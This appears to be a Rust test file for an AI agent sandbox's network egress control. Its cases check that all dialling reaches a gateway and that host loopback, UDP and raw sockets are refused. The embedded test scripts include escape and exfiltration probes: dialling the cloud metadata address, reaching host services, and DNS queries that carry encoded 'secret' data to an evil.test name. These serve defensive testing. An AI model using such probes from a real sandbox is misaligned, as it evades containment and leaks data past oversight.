//! The one road out (the table of `egress`): whatever an agent dials reaches the gateway, or nobody.

use crate::world::{World, promise, script};
use std::io::Write;
use std::net::{TcpListener, UdpSocket};

fn answers(text: &str) -> Vec<String> {
    World::new().inside(&script(text)).text.lines().map(str::to_owned).collect()
}

promise!(a_raw_public_address_reaches_the_gateway_which_sees_what_was_dialled, || {
    assert_eq!(answers("attempt(lambda: dial('8.8.8.8', 443))"), ["gateway 8.8.8.8:443 -"]);
});

promise!(the_metadata_address_reaches_the_gateway, || {
    assert_eq!(answers("attempt(lambda: dial('169.254.169.254', 80))"), ["gateway 169.254.169.254:80 -"]);
});

promise!(an_ipv6_address_reaches_the_gateway, || {
    let found = answers("attempt(lambda: dial('2001:db8::1', 443, socket.AF_INET6))\nattempt(lambda: dial('fd00:ec2::254', 80, socket.AF_INET6))");
    assert_eq!(found, ["gateway [2001:db8::1]:443 -", "gateway [fd00:ec2::254]:80 -"]);
});

promise!(a_port_that_the_gateway_does_not_serve_is_refused, || {
    assert_eq!(answers("attempt(lambda: dial('8.8.8.8', 8443))\nattempt(lambda: dial('2001:db8::1', 8443, socket.AF_INET6))"), ["ECONNREFUSED"; 2]);
});

promise!(a_service_on_the_hosts_loopback_is_unreachable, || {
    let world = World::new();
    let host = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = host.local_addr().unwrap().port();
    let attack = script(&format!("attempt(lambda: dial('127.0.0.1', {port}))"));
    let service = std::thread::spawn(move || {
        let (mut stream, _) = host.accept().unwrap();
        stream.write_all(b"host\n").unwrap();
        host
    });
    assert_eq!(world.outside(&attack), "host\n", "the control");
    let _host = service.join().unwrap();
    assert_eq!(world.inside(&attack).text, "ECONNREFUSED\n");
});

promise!(a_service_on_an_address_of_the_hosts_is_unreachable, || {
    let world = World::new();
    // The host's own address, where it has one beside loopback; its loopback network has many.
    let host = TcpListener::bind("127.1.2.3:0").unwrap();
    let port = host.local_addr().unwrap().port();
    let attack = script(&format!("attempt(lambda: dial('127.1.2.3', {port}))"));
    let service = std::thread::spawn(move || {
        let (mut stream, _) = host.accept().unwrap();
        stream.write_all(b"host\n").unwrap();
        host
    });
    assert_eq!(world.outside(&attack), "host\n", "the control");
    let _host = service.join().unwrap();
    assert_eq!(world.inside(&attack).text, "ECONNREFUSED\n");
});

promise!(the_agents_own_services_on_loopback_work, || {
    let text = r#"
def serve(family, host):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.bind((host, 3000)); s.listen()
    if os.fork() == 0:
        c, _ = s.accept(); c.sendall(b'own\n'); os._exit(0)
    return s
a = serve(socket.AF_INET, '127.0.0.1'); b = serve(socket.AF_INET6, '::1')
attempt(lambda: dial('127.0.0.1', 3000))
attempt(lambda: dial('::1', 3000, socket.AF_INET6))
attempt(lambda: dial('127.0.0.1', 3001))
"#;
    assert_eq!(answers(text), ["own", "own", "ECONNREFUSED"]);
});

promise!(udp_goes_nowhere, || {
    let world = World::new();
    let host = UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = host.local_addr().unwrap().port();
    let attack = script(&format!(
        "def send(to):\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(to); s.send(b'x'); s.recv(1)\n\
         for to in [('127.0.0.1', {port}), ('8.8.8.8', 4500)]:\n    attempt(lambda: send(to))"
    ));
    assert_eq!(world.inside(&attack).text, "ECONNREFUSED\nECONNREFUSED\n");
    host.set_nonblocking(true).unwrap();
    let mut buffer = [0; 8];
    assert!(host.recv(&mut buffer).is_err(), "nothing came");
    let control = UdpSocket::bind("127.0.0.1:0").unwrap();
    control.send_to(b"x", ("127.0.0.1", port)).unwrap();
    host.set_nonblocking(false).unwrap();
    assert_eq!(host.recv(&mut buffer).unwrap(), 1, "the control");
});

promise!(a_name_that_carries_data_is_answered_here_and_goes_no_further, || {
    let world = World::new();
    let done = world.inside(&script("print(socket.getaddrinfo('c2VjcmV0.evil.test', 443, socket.AF_INET, socket.SOCK_STREAM)[0][4][0])"));
    assert_eq!(done.text, "198.18.1.0\n");
    assert_eq!(done.names, ["c2vjcmv0.evil.test"]);
});

promise!(a_resolver_of_the_agents_choice_is_ours_too_over_udp_and_tcp, || {
    let text = r#"
def ask(family, host, kind, tcp):
    name = b''.join(bytes([len(l)]) + l for l in b'c2VjcmV0.evil.test'.split(b'.')) + b'\0'
    q = b'\x12\x34\x01\0\0\x01\0\0\0\0\0\0' + name + struct.pack('!HH', kind, 1)
    s = socket.socket(family, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.connect((host, 53))
    if tcp:
        s.sendall(struct.pack('!H', len(q)) + q); r = s.recv(2); r = s.recv(2048)
    else:
        s.send(q); r = s.recv(2048)
    return (r[:2] == q[:2], r[3] & 15, r[7])
for kind in (1, 28, 16, 255):
    attempt(lambda: ask(socket.AF_INET, '8.8.8.8', kind, False))
attempt(lambda: ask(socket.AF_INET6, '2001:4860:4860::8888', 1, False))
attempt(lambda: ask(socket.AF_INET, '1.1.1.1', 1, True))
attempt(lambda: ask(socket.AF_INET6, '2606:4700:4700::1111', 16, True))
"#;
    let (found, refused) = ("(True, 0, 1)", "(True, 5, 0)");
    assert_eq!(answers(text), [found, found, refused, refused, found, found, refused]);
});

promise!(a_name_reaches_the_gateway_as_itself_on_any_port_it_serves, || {
    let found = answers("attempt(lambda: dial('db.internal', 5432))\nattempt(lambda: dial('github.com', 22))\nattempt(lambda: dial('db.internal', 443))");
    assert_eq!(found, ["gateway 198.18.1.0:5432 db.internal", "gateway 198.18.1.1:22 github.com", "gateway 198.18.1.0:443 db.internal"]);
});

promise!(no_socket_that_reaches_under_tcp_can_be_made, || {
    let text = r#"
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
"#;
    assert_eq!(answers(text), ["EPERM", "EPERM"]);
});
